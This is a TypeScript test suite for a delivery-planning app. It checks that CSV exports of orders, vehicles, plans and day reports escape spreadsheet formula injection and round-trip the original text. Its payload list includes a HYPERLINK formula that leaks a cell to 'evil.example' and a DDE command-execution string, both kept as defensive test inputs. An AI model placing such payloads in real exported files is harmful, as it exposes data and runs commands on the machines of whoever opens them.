// CSV injection (OWASP): every exported text cell that a spreadsheet would read as
// a formula (=, +, -, @, tab, CR) is written with a leading quote, numbers stay
// numbers, and reading the file back gives the original text — at the cell level,
// and through the orders, vehicles and plan exports and the importer.
import { readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { makeBlankScenario } from '../../../web/src/domain/blank';
import type { DayFigures } from '../../../web/src/domain/day/day-report';
import { dayReportCsv } from '../../../web/src/io/day-report-csv';
import type { Order, Scenario, Vehicle } from '../../../web/src/domain/scenario';
import { makeTable, neutralizeCell, parseCsv, restoreCell, toCsv } from '../../../web/src/io/csv';
import { planCsv } from '../../../web/src/io/export-csv';
import { ordersCsv } from '../../../web/src/io/export-orders';
import { vehiclesCsv } from '../../../web/src/io/export-vehicles';
import { mergeIntoScenario } from '../../../web/src/io/import-rows';
import { upgradeScenario } from '../../../web/src/io/restore';
import { makeMiniPlan, makeMiniScenario } from '../../fixtures/mini-scenario';
import { issueLines, readCsvText } from '../../helpers/import-table';

/** Text a spreadsheet would run or reinterpret, as OWASP lists it, plus quoted look-alikes. */
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")', '+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx', '=cmd|\' /C calc\'!A0',
  "'=1+1", "''+2", "'@x", "'plain", "'", '-3', '-', '=', '+33 6 00 00 00 00', 'plain', '', ' =1+1',
];

/** Every cell of CSV text exactly as written (quotes neutralising formulas kept). */
const rawCells = (text: string) => Papa.parse<string[]>(text, { delimiter: ',' }).data.flat();

/** True when a spreadsheet opening this raw cell could take it for a formula. */
const formulaLike = (cell: string) => /^[=+\-@\t\r]/.test(cell);

/** Small seeded generator (mulberry32), so the property cases are the same on every run. */
function random(seed: number): () => number {
  let a = seed;
  return () => {
    a = (a + 0x6d2b79f5) | 0;
    let t = Math.imul(a ^ (a >>> 15), 1 | a);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Strings over the characters that matter here: quotes, formula starts, separators, line ends. */
function generatedTexts(count: number): string[] {
  const next = random(12);
  const alphabet = ["'", "'", '=', '+', '-', '@', '\t', '\r', '\n', ',', ';', '"', ' ', 'a', '1', 'é'];
  return Array.from({ length: count }, () => {
    const length = Math.floor(next() * 7);
    return Array.from({ length }, () => alphabet[Math.floor(next() * alphabet.length)]).join('');
  });
}

describe('neutralizeCell / restoreCell', () => {
  it('quotes every text starting like a formula and nothing else', () => {
    expect(neutralizeCell('=1+1')).toBe("'=1+1");
    expect(neutralizeCell('\tx')).toBe("'\tx");
    expect(neutralizeCell("'=1+1")).toBe("''=1+1");
    expect(neutralizeCell("'plain")).toBe("'plain");
    expect(neutralizeCell('plain')).toBe('plain');
    expect(neutralizeCell('')).toBe('');
    for (const text of PAYLOADS) expect(formulaLike(neutralizeCell(text)), JSON.stringify(text)).toBe(false);
  });

  it('gives back the original text of every payload and of 5,000 generated strings', () => {
    for (const text of [...PAYLOADS, ...generatedTexts(5000)]) expect(restoreCell(neutralizeCell(text))).toBe(text);
  });

  it('leaves text it did not write alone', () => {
    for (const text of ["'plain", "'", "it's", '=x', '-3', "x'=1"]) expect(restoreCell(text)).toBe(text);
  });
});

describe('toCsv', () => {
  it('writes no text cell a spreadsheet would run, keeps numbers as numbers, and reads back the original text', async () => {
    const rows: (string | number)[][] = PAYLOADS.map((text, i) => [`o${i}`, text, -3.5 - i, i % 2 ? -i : 0]);
    const headers = ['id', '=Note', 'Lat', '@Floor'];
    const text = toCsv(headers, rows);
    for (const cell of rawCells(text)) {
      if (formulaLike(cell)) expect(cell, 'only a written number may start with -').toMatch(/^-\d+(\.\d+)?$/);
    }
    expect(text).toContain(',-3.5,0\r\n');
    const back = await parseCsv(text);
    expect(back.headers).toEqual(headers);
    expect(back.rows).toEqual(rows.map((r) => r.map(String)));
  });

  it('round-trips generated text in every column, the delimiter still read as a comma', async () => {
    const texts = generatedTexts(3000);
    const rows = Array.from({ length: 1000 }, (_, i) => [`r${i}`, texts[3 * i], texts[3 * i + 1], texts[3 * i + 2]]);
    const back = await parseCsv(toCsv(['id', 'a', 'b', 'c'], rows));
    // An all-empty row is not a row; every other one comes back as written.
    expect(back.rows).toEqual(rows);
  });

  it('gives the original text back from a sheet saved as .xlsx (cells keep the quote as text)', () => {
    const table = makeTable([["'=Note", 'id'], ["'=HYPERLINK(\"x\")", "''-2+3"], ["'plain", '-3']]);
    expect(table.headers).toEqual(['=Note', 'id']);
    expect(table.rows).toEqual([['=HYPERLINK("x")', "'-2+3"], ["'plain", '-3']]);
  });
});

function demo(): Scenario {
  const read = upgradeScenario(JSON.parse(readFileSync(resolve('public/demo-scenario.json'), 'utf8')));
  if (!read.ok) throw new Error(read.message);
  return read.scenario;
}

/** The demo with formula payloads in every free-text field of orders, vehicles and depots, and in custom column names. */
function poisoned(): Scenario {
  const source = demo();
  const pick = (i: number) => PAYLOADS[i % PAYLOADS.length];
  source.depots = source.depots.map((d, i) => ({ ...d, name: `@${d.name}${pick(i)}` }));
  source.orders = source.orders.map((o, i) => ({
    ...o, customerName: pick(i) || 'x', address: `-${o.address}`, notes: pick(i + 3), phone: '+33 6 00 00 00 00', email: `=${o.email}`,
    extra: { '=Gate': `+${i}`, '@Floor': i % 2 ? `-${i}` : pick(i + 5) || 'none' },
  }));
  source.vehicles = source.vehicles.map((v, i) => ({ ...v, name: `=${v.name}`, type: `-${v.type}`, extra: { '+Plate': pick(i + 1) } }));
  return source;
}

/** Exports vehicles then orders and imports both into a blank scenario with the same settings. */
async function roundTrip(source: Scenario): Promise<Scenario> {
  let target = makeBlankScenario('copy', 'Copy', source.settings.date, source.settings);
  const vehicles = await readCsvText(vehiclesCsv(source), target, 'vehicles');
  expect(issueLines(vehicles.rows)).toEqual([]);
  target = mergeIntoScenario(target, 'vehicles', 'append', vehicles.rows.map((r) => r.value as Vehicle), vehicles.newDepots);
  const orders = await readCsvText(ordersCsv(source), target, 'orders');
  expect(issueLines(orders.rows)).toEqual([]);
  return mergeIntoScenario(target, 'orders', 'append', orders.rows.map((r) => r.value as Order));
}

describe('exports', () => {
  it('orders, vehicles and plan CSV hold no formula-like text cell', () => {
    const mini = makeMiniScenario();
    mini.orders = mini.orders.map((o, i) => ({ ...o, customerName: PAYLOADS[i], notes: '=1+1', extra: { '-x': '@y' } }));
    mini.vehicles = mini.vehicles.map((v) => ({ ...v, name: '+Van' }));
    const source = poisoned();
    for (const text of [ordersCsv(source), vehiclesCsv(source), planCsv({ ...mini, plan: makeMiniPlan(mini) })]) {
      const suspicious = rawCells(text).filter((cell) => formulaLike(cell) && !/^-\d+(\.\d+)?$/.test(cell));
      expect(suspicious).toEqual([]);
    }
  });

  it('import the payloads back as the original text: names, addresses, notes, custom columns and depots', async () => {
    const source = poisoned();
    const back = await roundTrip(source);
    expect({ depots: back.depots, vehicles: back.vehicles, orders: back.orders })
      .toEqual({ depots: source.depots, vehicles: source.vehicles, orders: source.orders.map((o) => ({ ...o, customerName: o.customerName.trim(), notes: o.notes.trim() })) });
  });

  it('keep negative coordinates as numbers that import as numbers', async () => {
    const source = demo();
    source.orders = source.orders.map((o) => ({ ...o, lat: -o.lat, pickup: o.pickup && { ...o.pickup, lat: -o.pickup.lat } }));
    source.depots = source.depots.map((d) => ({ ...d, lat: -d.lat }));
    const cells = rawCells(ordersCsv(source));
    expect(cells).toContain(String(source.orders[0].lat));
    expect(cells).not.toContain(`'${source.orders[0].lat}`);
    const back = await roundTrip(source);
    expect(back.orders.map((o) => o.lat)).toEqual(source.orders.map((o) => o.lat));
  });
});

describe('day report CSV', () => {
  it('neutralises formula-like vehicle ids and keeps its figures as numbers', () => {
    const share = { onTime: 1, of: 2, share: 0.5 };
    const figures = (vehicleId: string | null): DayFigures => ({
      vehicleId, onTime: { planned: share, predicted: share, actual: share }, firstAttempt: share,
      stops: { planned: 3, done: 1, failed: 1, left: 1 }, km: { planned: 12.345, predicted: 13 }, hours: { planned: 2, predicted: 2.5, actual: null }, serviceMinutes: {},
    });
    const text = dayReportCsv({ routes: PAYLOADS.filter(Boolean).map(figures), total: figures(null) });
    const rows = Papa.parse<string[]>(text, { delimiter: ',' }).data;
    // A vehicle id is text even when it looks like a number ("-3"): neutralised like any text, restored on import.
    expect(rows.slice(1).flat().filter((c) => formulaLike(c))).toEqual([]);
    expect(rows.slice(1, -1).map((r) => restoreCell(r[0]))).toEqual(PAYLOADS.filter(Boolean));
    expect(rows.at(-1)).toEqual(['total', '3', '1', '1', '1', '50.0', '50.0', '50.0', '50.0', '12.35', '13', '2', '2.5', '']);
  });
});
